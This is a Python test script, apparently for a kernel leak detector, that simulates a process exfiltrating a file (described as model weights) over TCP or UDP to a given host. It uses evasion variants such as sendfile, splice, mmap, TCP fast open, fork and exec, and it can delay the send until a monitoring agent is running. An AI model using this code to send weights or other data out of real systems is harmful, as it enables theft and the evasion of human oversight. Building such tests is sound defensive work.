#!/usr/bin/env python3
"""Attack (and benign) scenarios: get bytes from a source and push them to a
destination, the way a leaking process would. Prints one JSON result line:
{"sent": N, "error": null|"EPERM"|...}; exits 0 when everything was sent,
3 when the kernel refused (EPERM), 4 on any other error.

VIGIL_TEST_MARK=FILE makes it write CLOCK_MONOTONIC ns just before the first
byte is sent, so a wrapper can measure how long a leaker survived."""
import argparse
import errno
import json
import mmap
import os
import socket
import sys
import time


def mark_first_send():
    path = os.environ.get("VIGIL_TEST_MARK")
    if path and not os.path.exists(path):
        with open(path, "w") as f:
            f.write(str(time.monotonic_ns()))


def family_of(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def open_socket(args):
    kind = socket.SOCK_DGRAM if args.udp else socket.SOCK_STREAM
    s = socket.socket(family_of(args.host), kind)
    if args.timeout:
        s.settimeout(args.timeout)
    return s


def read_source(args):
    """Returns the bytes to leak, or None when the send itself reads the file."""
    if args.random is not None:
        return os.urandom(args.random)
    if args.stdin:
        return sys.stdin.buffer.read()
    if args.via in ("sendfile", "splice"):
        return None
    fd = os.open(args.src, os.O_RDONLY)
    try:
        if args.via == "mmap":
            size = os.fstat(fd).st_size
            with mmap.mmap(fd, size, prot=mmap.PROT_READ) as mm:
                return bytes(mm[:])           # page faults, no read()
        if args.via == "pread":
            size = os.fstat(fd).st_size
            return os.pread(fd, size, 0)
        if args.via == "readv":
            size = os.fstat(fd).st_size
            buf = bytearray(size)
            os.readv(fd, [buf])
            return bytes(buf)
        chunks = []
        while True:
            b = os.read(fd, 1 << 20)
            if not b:
                return b"".join(chunks)
            chunks.append(b)
    finally:
        os.close(fd)


def send_all(args, s, data):
    """Sends data (or the file itself for sendfile/splice); returns bytes sent."""
    dest = (args.host, args.port)
    sent = 0
    if data is None:
        fd = os.open(args.src, os.O_RDONLY)
        size = os.fstat(fd).st_size
        mark_first_send()
        if args.via == "sendfile":
            while sent < size:
                n = os.sendfile(s.fileno(), fd, sent, min(args.chunk, size - sent))
                if n == 0:
                    break
                sent += n
        else:
            r, w = os.pipe()
            while sent < size:
                n = os.splice(fd, w, min(args.chunk, size - sent))
                if n == 0:
                    break
                left = n
                while left:
                    left -= os.splice(r, s.fileno(), left)
                sent += n
        os.close(fd)
        return sent
    mark_first_send()
    view = memoryview(data)
    while sent < len(view):
        part = view[sent:sent + args.chunk]
        if args.udp and not args.connect_first:
            n = s.sendto(part, dest)
        elif args.fastopen and sent == 0:
            # TCP fast open: the first data rides on the SYN, no connect()
            n = s.sendto(part, socket.MSG_FASTOPEN, dest)
        elif args.via == "write":
            n = os.write(s.fileno(), part)
        elif args.via == "sendmsg":
            n = s.sendmsg([part])
        else:
            s.sendall(part)
            n = len(part)
        sent += n
        if args.pace:
            time.sleep(args.pace)
    return sent


def wait_for(path):
    while not os.path.exists(path):
        time.sleep(0.02)


def leak(args):
    if args.wait_file:
        # read the weights now, hold the file open, leak only once told to:
        # the agent starts in between and must find us in /proc
        held = os.open(args.src, os.O_RDONLY)
        data = read_source(args)
        open(args.wait_file + ".read", "w").close()
        wait_for(args.wait_file)
        s = open_socket(args)
        s.connect((args.host, args.port))
        sent = send_all(args, s, data)
        s.close()
        os.close(held)
        return sent
    s = open_socket(args)
    if args.connect_first:
        s.connect((args.host, args.port))
    data = read_source(args)
    if args.exec_random:
        # taint must survive exec: the new image only sends random bytes
        os.execv(sys.executable, [sys.executable, __file__, "--random",
                                  str(args.exec_random), "--host", args.host,
                                  "--port", str(args.port)] +
                 (["--udp"] if args.udp else []))
    if args.child:
        pid = os.fork()
        if pid:
            _, status = os.waitpid(pid, 0)
            if os.WIFSIGNALED(status):
                print(json.dumps({"child_signal": os.WTERMSIG(status)}))
                sys.exit(128 + os.WTERMSIG(status))
            sys.exit(os.WEXITSTATUS(status))
    if not args.udp and not args.connect_first and not args.fastopen:
        s.connect((args.host, args.port))
    elif args.udp and not args.connect_first and args.udp_connect:
        s.connect((args.host, args.port))
        args.connect_first = True
    sent = send_all(args, s, data)
    if not args.udp:
        s.shutdown(socket.SHUT_WR)
    s.close()
    return sent


def main():
    ap = argparse.ArgumentParser()
    src = ap.add_mutually_exclusive_group(required=True)
    src.add_argument("--src", help="file to read and leak")
    src.add_argument("--stdin", action="store_true", help="leak what arrives on stdin")
    src.add_argument("--random", type=int, help="send N random (untainted) bytes")
    ap.add_argument("--host", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--udp", action="store_true")
    ap.add_argument("--udp-connect", action="store_true", help="connect() the UDP socket")
    ap.add_argument("--via", default="sendall",
                    choices=("sendall", "write", "sendmsg", "sendfile", "splice",
                             "mmap", "pread", "readv"))
    ap.add_argument("--connect-first", action="store_true",
                    help="connect before reading the weights")
    ap.add_argument("--fastopen", action="store_true",
                    help="TCP: no connect(), the first send is sendto(MSG_FASTOPEN)")
    ap.add_argument("--child", action="store_true", help="a forked child sends")
    ap.add_argument("--exec-random", type=int, metavar="N",
                    help="after reading, exec a sender of N random bytes")
    ap.add_argument("--wait-file", metavar="PATH",
                    help="read first, then wait until PATH exists before leaking")
    ap.add_argument("--timeout", type=float, default=0,
                    help="give up when the socket makes no progress for this long")
    ap.add_argument("--chunk", type=int, default=64 * 1024)
    ap.add_argument("--pace", type=float, default=0.0, help="seconds between chunks (datagrams)")
    ap.add_argument("--tag", help="ignored: marks the command line so a test can find its alert")
    args = ap.parse_args()
    if args.udp and args.chunk > 1200:
        args.chunk = 1200
    sent = 0
    try:
        sent = leak(args)
    except socket.timeout:
        print(json.dumps({"sent": sent, "error": "timeout"}))
        sys.exit(4)
    except OSError as e:
        name = errno.errorcode.get(e.errno, str(e.errno))
        print(json.dumps({"sent": sent, "error": name}))
        sys.exit(3 if e.errno == errno.EPERM else 4)
    print(json.dumps({"sent": sent, "error": None}))


if __name__ == "__main__":
    main()
